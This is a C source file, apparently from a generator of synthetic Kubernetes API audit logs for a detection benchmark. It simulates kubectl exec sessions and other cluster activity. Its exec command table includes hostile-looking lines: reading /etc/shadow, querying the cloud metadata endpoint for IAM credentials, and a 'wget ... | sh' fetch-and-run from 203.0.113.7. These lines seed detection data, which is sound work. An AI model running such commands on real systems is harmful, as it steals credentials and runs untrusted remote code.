         * log is drained or, with --follow, when the person stops. */
        e.started = t + audit_latency(c, 15000);
        if (gen_chance(&c->rng, 0.4)) {
            gen_put(&w->obj, "&follow=true&tailLines=100");
            e.staged = e.started + gen_exp_ns(&c->rng, 120 * GEN_NS_PER_SEC);
        } else {
            e.staged = e.started + audit_latency(c, 60000);
        }
        memcpy(q, w->obj.buf, w->obj.len + 1);
        cq_strbuf_reset(&w->obj);
        audit_simple(c, w, &e, 1, q);
        break;
    case 4:
        e.verb = "list";
        e.resource = "deployments";
        e.group = "apps";
        audit_simple(c, w, &e, 0, "?limit=500");
        break;
    case 5:
        e.resource = "deployments";
        e.group = "apps";
        e.name = a->name;
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 6:     /* kubectl apply: client-side mostly, some server-side */
        human_apply(c, w, u, t, a, gen_chance(&c->rng, 0.3) ? GEN_APPLY_SSA : GEN_APPLY_CSA_PATCH);
        break;
    case 7:
        human_restart(c, w, u, t, a);
        break;
    case 8:
        e.verb = "delete";
        e.name = pod_of(w, a, (int)gen_below(&c->rng, (uint32_t)a->replicas));
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 9:
        e.resource = "secrets";
        cq_strbuf_reset(&w->tmp);
        gen_put(&w->tmp, a->name);
        gen_put(&w->tmp, "-db-credentials");
        e.name = w->tmp.buf;
        if (u->team >= 0 && gen_chance(&c->rng, 0.3)) {
            e.ns = w->apps[gen_below(&c->rng, N_TEAMS * N_COMPS)].ns;
            if (strcmp(e.ns, a->ns)) {
                e.code = 403;
                e.fail_reason = "Forbidden";
            }
        }
        audit_simple(c, w, &e, 1, NULL);
        break;
    case 10:
        e.verb = "create";
        e.resource = "configmaps";
        e.code = 201;
        cq_strbuf_reset(&w->tmp);
        gen_put(&w->tmp, a->name);
        gen_put(&w->tmp, "-flags");
        e.name = w->tmp.buf;
        audit_simple(c, w, &e, 0, "?fieldManager=kubectl-create&fieldValidation=Strict");
        break;
    case 11:    /* kubectl top pods */
        e.verb = "list";
        e.group = "metrics.k8s.io";
        e.version = "v1beta1";
        audit_simple(c, w, &e, 0, NULL);
        break;
    case 12:    /* kubectl auth can-i */
        e.verb = "create";
        e.resource = "selfsubjectaccessreviews";
        e.group = "authorization.k8s.io";
        e.ns = NULL;
        e.code = 201;
        audit_simple(c, w, &e, 0, NULL);
        break;
    case 13:
        e.verb = "list";
        e.resource = "nodes";
        e.ns = NULL;
        audit_simple(c, w, &e, 0, "?limit=500");
        break;
    default:
        if (w->o && w->o->human_specials)
            human_special(c, w, u, t);
        else
            audit_simple(c, w, &e, 0, "?limit=500");
        break;
    }
}

/* ---- exec sessions */

static const char *const *const exec_cmds[] = {
    (const char *const[]){"sh", NULL},
    (const char *const[]){"bash", NULL},
    (const char *const[]){"/bin/sh", NULL},
    (const char *const[]){"sh", "-c", "cat /etc/shadow", NULL},
    (const char *const[]){"env", NULL},
    (const char *const[]){"ps", "aux", NULL},
    (const char *const[]){"cat", "/app/config/application.yaml", NULL},
    (const char *const[]){"sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", NULL},
    (const char *const[]){"sh", "-c", "wget -qO- http://203.0.113.7/x.sh | sh", NULL},
    (const char *const[]){"python", "manage.py", "migrate", NULL},
    (const char *const[]){"redis-cli", "info", "memory", NULL},
    (const char *const[]){"ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount", NULL},
};
#define N_EXEC_CMDS (sizeof exec_cmds / sizeof *exec_cmds)

static int interactive(const char *const *argv)
{
    return !argv[1] && (!strcmp(argv[0], "sh") || !strcmp(argv[0], "bash") ||
                        !strcmp(argv[0], "/bin/sh"));
}

/* The truth description of an exec session's stages: "PRE<stage>POST". */
static void exec_truth(cq_strbuf *pre, cq_strbuf *post, const actor *u,
                       const app *a, const char *pod, const char *verb,
                       const char *const *argv)
{
    gen_put(pre, "kubectl exec (verb=");
    gen_put(pre, verb);
    gen_put(pre, ", ");
    gen_put(post, ") by ");
    gen_put(post, u->name);
    gen_put(post, " into ");
    gen_put(post, a->ns);
    gen_putc(post, '/');
    gen_put(post, pod);
    gen_putc(post, ':');
    for (size_t i = 0; argv[i]; i++) {
        gen_putc(post, ' ');
        gen_put(post, argv[i]);
    }
}

/* kubectl exec: the URI carries the command as repeated command= parameters
 * (url.Values encodes keys in sorted order); the upgrade answers 101.  Three
 * stages: received, stream started, session ended. */
static void exec_session(gen_ctx *c, world *w, int64_t t, const actor *u,
                         const app *a, int replica, const char *verb,
                         const char *const *argv)
{
    int tty = interactive(argv);
    char pod[96];
    cq_strbuf_reset(&w->tmp);
    audit_put_pod_name(&w->tmp, a, replica);
    memcpy(pod, w->tmp.buf, w->tmp.len + 1);
    cq_strbuf *q = &w->uri;
    cq_strbuf_reset(q);
    gen_put(q, "/api/v1/namespaces/");
    gen_put(q, a->ns);
    gen_put(q, "/pods/");
    gen_put(q, pod);
    gen_put(q, "/exec?");
    for (size_t i = 0; argv[i]; i++) {
        gen_put(q, "command=");
        gen_put_qescape(q, argv[i]);
        gen_putc(q, '&');
    }
    gen_put(q, "container=");
    gen_put(q, a->container);
    gen_put(q, tty ? "&stdin=true&stdout=true&tty=true" : "&stderr=true&stdout=true");
    audit_ev e = {.u = u, .received = t, .verb = verb, .resource = "pods",
                  .ns = a->ns, .name = pod, .sub = "exec", .version = "v1",
                  .code = 101, .pod_extra = 1};
    e.started = t + audit_latency(c, 40000);
    int64_t dur = tty ? gen_exp_ns(&c->rng, 300 * GEN_NS_PER_SEC) + 5 * GEN_NS_PER_SEC
                      : gen_exp_ns(&c->rng, 800 * GEN_NS_PER_MS) + 100 * GEN_NS_PER_MS;
    e.staged = t + dur;
    cq_strbuf pre = CQ_STRBUF_INIT, post = CQ_STRBUF_INIT;
    exec_truth(&pre, &post, u, a, pod, verb, argv);
    e.truth_id = "T1609-001";
    e.truth_pre = pre.buf;
    e.truth_post = post.buf;
    audit_request(c, w, &e);
    cq_strbuf_free(&pre);
    cq_strbuf_free(&post);
    cq_strbuf_reset(q);
    w->exec_lines += 3;
}

static void random_exec(gen_ctx *c, world *w, int64_t t)
{
    const char *const *argv = exec_cmds[gen_below(&c->rng, N_EXEC_CMDS)];
    if (gen_chance(&c->rng, 0.15)) {
        /* CI jobs exec through client-go's SPDY executor: always create. */
        size_t ai = gen_audit_find_app(c, "gitlab-runner");
        const app *a = &w->apps[gen_below(&c->rng, N_TEAMS * N_COMPS)];
        exec_session(c, w, t, &w->users[w->first_app + ai], a,
                     (int)gen_below(&c->rng, (uint32_t)a->replicas), "create", argv);
        return;
    }
    const actor *u = &w->users[w->first_human + gen_below(&c->rng, N_HUMANS)];
    const app *a = human_app(c, w, u);
    exec_session(c, w, t, u, a, (int)gen_below(&c->rng, (uint32_t)a->replicas),
                 minor_of(u) >= 30 ? "get" : "create", argv);
}

/* ---- entry points */

size_t gen_audit_find_human(gen_ctx *c, const char *name)
{
    world *w = c->state;
    for (size_t i = 0; i < N_HUMANS; i++)
        if (!strncmp(w->users[w->first_human + i].name, name, strlen(name)) &&
            w->users[w->first_human + i].name[strlen(name)] == '@')
            return i;
    abort();    /* the sample script names people that exist */
}

size_t gen_audit_find_app(gen_ctx *c, const char *name)
{
    world *w = c->state;
    for (size_t i = 0; i < w->n_apps; i++)
        if (!strcmp(w->apps[i].name, name))
            return i;
    abort();
}

int gen_audit_kubectl_minor(gen_ctx *c, size_t who)
{
    world *w = c->state;
    return minor_of(&w->users[w->first_human + who]);
}

void gen_audit_exec(gen_ctx *c, int64_t t, size_t who, size_t app_i,
                    const char *const *argv)
{
    world *w = c->state;
    const actor *u = &w->users[w->first_human + who];
    const app *a = &w->apps[app_i];
    exec_session(c, w, t, u, a, 0, minor_of(u) >= 30 ? "get" : "create", argv);
}

void gen_audit_get_pod_named(gen_ctx *c, int64_t t, size_t who, const char *ns,
                             const char *name)
{
    world *w = c->state;
    audit_ev e = {.u = &w->users[w->first_human + who], .received = t, .verb = "get",
                  .resource = "pods", .ns = ns, .name = name, .version = "v1",
                  .code = 200};
    audit_simple(c, w, &e, 1, NULL);
}

void gen_audit_pod_sub(gen_ctx *c, int64_t t, size_t who, size_t app_i,
                       const char *sub)
{
    world *w = c->state;
    const actor *u = &w->users[w->first_human + who];
    const app *a = &w->apps[app_i];
    audit_ev e = {.u = u, .received = t, .verb = "get", .resource = "pods",
                  .ns = a->ns, .name = pod_of(w, a, 1), .sub = sub, .version = "v1",
                  .code = 200};
    char q[80] = "?container=";
    strncat(q, a->container, sizeof q - strlen(q) - 40);
    if (!strcmp(sub, "log")) {
        strcat(q, "&follow=true&tailLines=100");
    } else if (!strcmp(sub, "portforward")) {
        q[0] = '\0';
        e.verb = minor_of(u) >= 31 ? "get" : "create";
        e.code = 101;
    } else {
        strcat(q, "&stdin=true&stdout=true&tty=true");
        e.verb = minor_of(u) >= 30 ? "get" : "create";
        e.code = 101;
    }
    /* All three are long-running: the stream starts, and ends minutes later. */
    e.started = t + audit_latency(c, 20000);
    e.staged = e.started + 60 * GEN_NS_PER_SEC + gen_exp_ns(&c->rng, 240 * GEN_NS_PER_SEC);
    audit_simple(c, w, &e, 1, q[0] ? q : NULL);
}

void gen_audit_run_pod(gen_ctx *c, int64_t t, size_t who, const char *ns,
                       const char *name, const char *image, int privileged,
                       int hostpath, int outcome)
{
    world *w = c->state;
    human_run(c, w, &w->users[w->first_human + who], t, ns, name, image,
              privileged, hostpath, outcome);
}

static void one_request(gen_ctx *c, world *w, int64_t t)
{
    static const double wt[] = {47, 5, 6, 12, 14, 13, 8, 2.5, 3, 7.5};
    switch (gen_pick(&c->rng, wt, sizeof wt / sizeof *wt)) {
    case 0: node_lease(c, w, t); break;
    case 1: cp_lease(c, w, t); break;
    case 2: node_status(c, w, t); break;
    case 3: kubelet(c, w, t); break;
    case 4: workload(c, w, t); break;
    case 5: controller(c, w, t); break;
    case 6: event_create(c, w, t); break;
    case 7: pod_churn(c, w, t); break;
    case 8: system_clients(c, w, t); break;
    default: human(c, w, t); break;
    }
}

void gen_audit_run(gen_ctx *c, const gen_audit_opts *o,
                   void (*inject)(gen_ctx *, void *), void *arg)
{
    world *w = calloc(1, sizeof *w);
    if (!w) {
        fputs("cquery-gen: out of memory\n", stderr);
        exit(3);
    }
    audit_build_world(w);
    w->o = o;
    c->state = w;
    int rare = o->rare_marker && c->limit >= 1000;
    while (!gen_done(c)) {
        c->now += gen_exp_ns(&c->rng, (int64_t)o->mean_gap_ns);
        if (c->until && c->now >= c->until)
            break;
        if (inject)
            inject(c, arg);
        if (o->exec_rate > 0 && (double)w->exec_lines + 3 <= o->exec_rate * (double)c->pushed + 1
            && gen_chance(&c->rng, 0.05))
            random_exec(c, w, c->now);
        else
            one_request(c, w, c->now);
        if (rare && c->pushed >= c->limit * 3 / 5) {
            /* The benchmark's rare term: one pod with this name per run. */
            rare = 0;
            size_t who = gen_below(&c->rng, N_ADMINS);
            gen_audit_run_pod(c, c->now + 1000, who, "default", RARE_MARKER,
                              "busybox:1.36", 0, 0, GEN_RUN_OK);
        }
        gen_flush_until(c, c->now);
    }
    gen_finish(c);
    c->state = NULL;
    cq_strbuf_free(&w->uri);
    cq_strbuf_free(&w->obj);
    cq_strbuf_free(&w->tmp);
    free(w);
}

void gen_audit_apply(gen_ctx *c, int64_t t, size_t who, size_t app_i, int how)
{
    world *w = c->state;
    human_apply(c, w, &w->users[w->first_human + who], t, &w->apps[app_i], how);
}
